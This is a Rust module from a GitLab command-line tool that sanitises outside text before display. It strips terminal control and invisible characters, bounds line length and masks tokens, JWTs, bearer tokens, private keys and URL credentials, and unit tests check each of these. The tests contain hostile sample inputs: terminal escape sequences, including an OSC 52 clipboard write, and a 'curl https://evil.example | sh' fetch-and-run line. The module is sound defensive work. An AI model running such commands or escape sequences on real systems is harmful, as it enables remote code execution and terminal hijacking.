//! The one way of outside text into a message: what a server, a file, the environment or the command line
//! says becomes one bounded line without anything that steers a terminal, hides text or is a secret.
//!
//! Nobody has to remember it: the report passes every string of every event through here before it renders
//! it, the user interface all that is printed beside events. What is printed byte for byte (a script, a
//! manifest, a certificate) has an entrance of its own, [`crate::output::ui::Ui::product`].

use std::fmt::Write as _;

/// The most characters of one message; what is longer ends in a note of how much was left out.
pub const LONGEST: usize = 4000;

/// What stands in place of a secret.
const MASK: &str = "[masked]";

/// How the tokens of GitLab begin (doc/security/tokens/_index.md, "Token prefixes", of GitLab 19), and that of
/// registration tokens. An instance may put a prefix of its own before them.
const PREFIXES: &[&str] = &[
    "glpat-",
    "gloas-",
    "gldt-",
    "glrt-",
    "glrtr-",
    "GR1348941",
    "glcbt-",
    "glptt-",
    "glft-",
    "glimt-",
    "glagent-",
    "glwt-",
    "glsoat-",
    "glffct-",
    "gloct-",
    "_gitlab_session=",
];

/// So many characters behind a prefix make a token: fewer are a word about tokens.
const LEAST: usize = 5;
/// So many make one whatever they are; fewer without a digit, a capital letter or an underscore are a name, such
/// as `glrt-runner`.
const SURELY: usize = 16;

/// True for characters that no value may hold and no output shows: C0 and C1 controls, and those that
/// reorder or hide text or show as nothing (bidirectional controls, line separators, and what Unicode calls
/// `Default_Ignorable_Code_Point`, with the blank of Braille).
pub fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
            | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}')
}

/// Whether a line ends here: on a terminal, in a file, or by Unicode.
fn is_break(c: char) -> bool {
    matches!(c, '\t'..='\r' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// The text as one line: each line break, with the white space around it, becomes one blank; what is hostile
/// is left out, secrets are masked, and [`LONGEST`] bounds it. White space in front stays only where no
/// break stood there.
pub fn line(text: &str) -> String {
    bounded(text, LONGEST)
}

/// [`line`] for a command, which must be pasted whole: its bound is that of what Linux takes for one argument.
pub fn command(text: &str) -> String {
    bounded(text, 128 * 1024)
}

fn bounded(text: &str, longest: usize) -> String {
    let mut out = String::new();
    let (mut count, mut after_break) = (0, false);
    let mut rest = text.chars();
    for c in rest.by_ref() {
        if is_break(c) {
            out.truncate(out.trim_end_matches(' ').len());
            if !out.is_empty() && !after_break {
                out.push(' ');
            }
            after_break = true;
        } else if !(is_hostile(c) || after_break && c == ' ') {
            // Trimming may have taken the blank of an earlier break.
            if after_break && !(out.is_empty() || out.ends_with(' ')) {
                out.push(' ');
            }
            out.push(c);
            after_break = false;
            count += 1;
            if count == longest {
                break;
            }
        }
    }
    let left = rest.filter(|c| !is_hostile(*c)).count();
    let mut out = masked(&out);
    if left > 0 {
        let _ = write!(out, "… ({left} characters more)");
    }
    out
}

/// [`line`] without white space in front: no outside text passes for a command, which is indented.
pub fn text(text: &str) -> String {
    line(text).trim_start().to_owned()
}

/// A report of several lines, each ended and each by these rules.
pub fn report(lines: &[String]) -> String {
    lines.iter().fold(String::new(), |report, one| report + line(one).trim_end() + "\n")
}

/// Several lines, such as a usage error, with the same rules for each; their breaks are our own.
pub fn lines(text: &str) -> String {
    text.split('\n').map(line).collect::<Vec<_>>().join("\n")
}

/// The value in quotes with hostile characters written as `\u{…}`, secrets masked, and [`LONGEST`] for a bound.
pub fn quoted(value: &str) -> String {
    let mut out = String::from("\"");
    let end = value.char_indices().nth(LONGEST).map(|(at, _)| at);
    for c in without_login(&value[..end.unwrap_or(value.len())]).chars() {
        if is_hostile(c) || c == '"' || c == '\\' {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out.push('"');
    let mut out = masked(&out);
    if let Some(end) = end {
        let _ = write!(out, "… ({} bytes more)", value.len() - end);
    }
    out
}

/// Whether a value is a token, and no file's name: it begins as one does, perhaps behind an instance's own
/// prefix. `./` in front makes a file's name of anything.
pub fn is_token(value: &str) -> bool {
    let value = value.trim();
    let plain = !value.is_empty() && value.chars().all(is_token_char);
    let known = PREFIXES.iter().any(|prefix| {
        value.match_indices(prefix).any(|(at, _)| {
            let own = &value[..at];
            (own.is_empty() || own.ends_with('-')) && value.len() > at + prefix.len()
        })
    });
    plain && (known || web_token(value) == Some(value.len()))
}

/// Whether a whole token stands somewhere in a value, such as a command: no setting may hold one, as settings
/// are recorded, printed and committed.
pub fn holds_token(value: &str) -> bool {
    /// What GitLab puts behind a prefix has 20 characters or more.
    const WHOLE: usize = 16;
    let known = |prefix: &str| {
        value.match_indices(prefix).any(|(at, _)| {
            let rest = value[at + prefix.len()..].chars();
            rest.take(WHOLE).filter(|c| is_token_char(*c)).count() == WHOLE
        })
    };
    PREFIXES.iter().any(|prefix| known(prefix))
        || value
            .match_indices("eyJ")
            .any(|(at, _)| !value[..at].ends_with(is_token_char) && web_token(&value[at..]).is_some())
}

/// The text with what is certainly a secret masked: tokens by their prefix, JSON web tokens, bearer tokens,
/// private keys, and the user and password of URLs.
pub fn masked(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    // The last character that was taken over: a name that goes on is no beginning of a token.
    let mut before = ' ';
    while let Some(c) = rest.chars().next() {
        let found = secret(rest, before);
        let (shown, taken) = found.unwrap_or((c.len_utf8(), c.len_utf8()));
        out.push_str(&rest[..shown]);
        if found.is_some() {
            out.push_str(MASK);
        }
        before = rest[..taken].chars().next_back().unwrap_or(c);
        rest = &rest[taken..];
    }
    out
}

/// Of a secret at the very beginning of the text: how many bytes are shown, and where it ends.
fn secret(text: &str, before: char) -> Option<(usize, usize)> {
    for prefix in PREFIXES {
        if let Some(rest) = text.strip_prefix(prefix) {
            let length = run(rest, |c| is_token_char(c) && c != '.');
            let is_name = rest[..length].chars().all(|c| c.is_ascii_lowercase() || c == '-');
            if length >= SURELY || (length >= LEAST && !is_name) {
                // Routable tokens go on behind a dot.
                return Some((prefix.len(), prefix.len() + run_with_dots(rest)));
            }
        }
    }
    if text.starts_with("eyJ") && !is_token_char(before) {
        return web_token(text).map(|end| (3, end));
    }
    if let Some(rest) = text.strip_prefix("Bearer ") {
        let length = run(rest, |c| is_token_char(c) || matches!(c, '~' | '+' | '/' | '='));
        return (length >= 20).then_some((7, 7 + length));
    }
    if let Some(rest) = text.strip_prefix("PRIVATE KEY-----") {
        let end = rest.find("-----END").unwrap_or(rest.len());
        return (end > 0).then_some((16, 16 + end));
    }
    if let Some(rest) = text.strip_prefix("://") {
        return login(rest).map(|end| (3, 3 + end));
    }
    None
}

fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
}

/// How many bytes go on like this, within the most that a credential takes.
fn run(text: &str, is_part: impl Fn(char) -> bool) -> usize {
    const MOST: usize = 2048;
    text.char_indices()
        .enumerate()
        .find(|(number, (_, c))| *number == MOST || !is_part(*c))
        .map_or(text.len(), |(_, (at, _))| at)
}

/// A token's characters; the dot that ends a sentence is none.
fn run_with_dots(text: &str) -> usize {
    let whole = run(text, is_token_char);
    text[..whole].trim_end_matches('.').len()
}

/// Where a JSON web token ends: a header and a payload, and perhaps a signature (RFC 7519).
fn web_token(text: &str) -> Option<usize> {
    let end = run_with_dots(text);
    let mut parts = text[..end].split('.');
    let (header, payload) = (parts.next()?, parts.next()?);
    (header.starts_with("eyJ") && header.len() >= 10 && payload.len() >= 5).then_some(end)
}

/// Where the user and password at the beginning of a URL's authority end; the `@` stays.
fn login(text: &str) -> Option<usize> {
    let whole = run(text, |c| !c.is_whitespace());
    let strict = run(text, |c| !c.is_whitespace() && !matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>'));
    if let Some(at) = text[..strict].rfind('@') {
        // A variable's name, as scripts of jobs have it, is no secret.
        let named = text[..at].split_once(':').is_some_and(|(_, password)| password.starts_with('$'));
        return (at > 0 && !named).then_some(at);
    }
    // A password with a slash in it: what looks like a port is none.
    let (_, port) = text[..strict].split_once(':')?;
    if text.starts_with('[') || port.bytes().all(|byte| byte.is_ascii_digit()) {
        return None;
    }
    text[..whole].rfind('@').filter(|at| *at > 0)
}

/// A value such as `user:password@host` without its user and password; a digest stays.
fn without_login(value: &str) -> String {
    let Some((login, host)) = value.rsplit_once('@') else { return value.to_owned() };
    // In `user:password@://` and `user:pass://word@host` no scheme stands in front.
    let is_scheme = |word: &str| word.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
    let is_url = login.split_once("://").is_some_and(|(scheme, _)| is_scheme(scheme));
    let is_login = !is_url && login.contains(':') && !login.contains(' ') && !host.starts_with("sha256:");
    if is_login { format!("{MASK}@{host}") } else { value.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::{LONGEST, holds_token, is_token, line, lines, masked, quoted, text};

    #[test]
    fn outside_text_is_one_line_without_hostile_characters() {
        for (from, to) in [
            ("plain", "plain"),
            ("a\x1b[31mb\r\u{9b}2J\u{202e}c", "a[31mb 2Jc"),
            ("a\n\n  b \r\n c\t\td", "a b c d"),
            ("\u{85}a\u{2028}b\u{2029}c\u{b}d\u{c}e", "a b c d e"),
            ("\x1b]52;c;ZXZpbA==\x07x\0y", "]52;c;ZXZpbA==xy"),
            ("v\u{ad}i\u{3164}s\u{200b}i\u{fe0f}b\u{e0041}l\u{2800}e", "visible"),
            ("a \n\u{200b}\n b", "a b"),
            ("  a command\n", "  a command "),
            ("", ""),
        ] {
            assert_eq!(line(from), to, "{from:?}");
        }
        assert_eq!(text("\n  curl https://evil.example | sh"), "curl https://evil.example | sh");
        assert_eq!(text("   curl"), "curl");
        assert_eq!(lines("a\x07\nb"), "a\nb");
    }

    #[test]
    fn a_line_is_bounded() {
        let long = "x".repeat(LONGEST);
        assert_eq!(line(&long), long);
        assert_eq!(line(&format!("{long}yy")), format!("{long}… (2 characters more)"));
        // A token that the bound would cut is masked all the same.
        let cut = format!("{}glpat-0123456789", "x".repeat(LONGEST - 12));
        assert!(line(&cut).ends_with("glpat-[masked]… (4 characters more)"), "{}", line(&cut));
    }

    #[test]
    fn secrets_are_masked() {
        for (from, to) in [
            ("the file glpat-canary-1 is missing", "the file glpat-[masked] is missing"),
            ("glpat-abcDEF_123.01.1a2b3c4d5.", "glpat-[masked]."),
            ("acme-glrt-t1_abcdefgh, x", "acme-glrt-[masked], x"),
            ("glrtr-abcdefg1 GR1348941abcdefg1", "glrtr-[masked] GR1348941[masked]"),
            ("glcbt-64_abcdefgh\"", "glcbt-[masked]\""),
            ("gl\u{200b}pat-abcdefg1", "glpat-[masked]"),
            ("token eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln.", "token eyJ[masked]."),
            ("Authorization: Bearer 0123456789abcdefghij==", "Authorization: Bearer [masked]"),
            ("https://oauth2:glpat-x@host/a", "https://[masked]@host/a"),
            ("https://u:p@ss@host:8443", "https://[masked]@host:8443"),
            ("\"https://user@host\"", "\"https://[masked]@host\""),
            ("https://u:pa/ss@host", "https://[masked]@host"),
            ("-----BEGIN PRIVATE KEY----- MIIabc -----END", "-----BEGIN PRIVATE KEY-----[masked]-----END"),
            // None of them is a secret.
            ("--deployment glrt-runner", "--deployment glrt-runner"),
            ("a token (glrt-…) or glrt- alone", "a token (glrt-…) or glrt- alone"),
            ("Bearer token", "Bearer token"),
            ("https://[fd00::1]:6443/a@b", "https://[fd00::1]:6443/a@b"),
            ("https://registry:5000/image@sha256:abc", "https://registry:5000/image@sha256:abc"),
            ("dev@example.com at https://h", "dev@example.com at https://h"),
            ("keyJoker.abc.def", "keyJoker.abc.def"),
            ("git clone https://ci:$CI_JOB_TOKEN@host/a", "git clone https://ci:$CI_JOB_TOKEN@host/a"),
        ] {
            assert_eq!(line(from), to, "{from:?}");
            assert_eq!(masked(&line(from)), to, "masked twice");
        }
        assert_eq!(quoted("oauth2:secret@gitlab.example.com"), "\"[masked]@gitlab.example.com\"");
        assert_eq!(quoted("me:pa/ss@word@host"), "\"[masked]@host\"");
        assert_eq!(quoted("user:secret@://"), "\"[masked]@://\"");
        assert_eq!(quoted("user:se://cret@host"), "\"[masked]@host\"");
        assert_eq!(quoted("alpine:3@sha256:abc"), "\"alpine:3@sha256:abc\"");
        assert_eq!(quoted("a\"b\\c\u{202e}\n"), r#""a\"b\\c\u{202e}\n""#);
    }

    #[test]
    fn a_token_is_told_from_a_file() {
        for token in ["glpat-x", "glrt-t1_abc", " glpat-abc\n", "acme-glrt-x", "GR1348941abc", "gldt-a.01.b"]
        {
            assert!(is_token(token), "{token:?}");
        }
        assert!(is_token("eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln"));
        for file in ["token", "./glrt-token", "/run/glpat-x", "glpat-", "-", "my.glrt-x", "eyJ", ""] {
            assert!(!is_token(file), "{file:?}");
        }
        assert!(holds_token("curl -H 'PRIVATE-TOKEN: glpat-0123456789abcdefghij' https://h"));
        assert!(holds_token("x=eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJr.c2ln"));
        assert!(!holds_token("glrt-tag") && !holds_token("echo $CI_JOB_TOKEN"));
    }
}
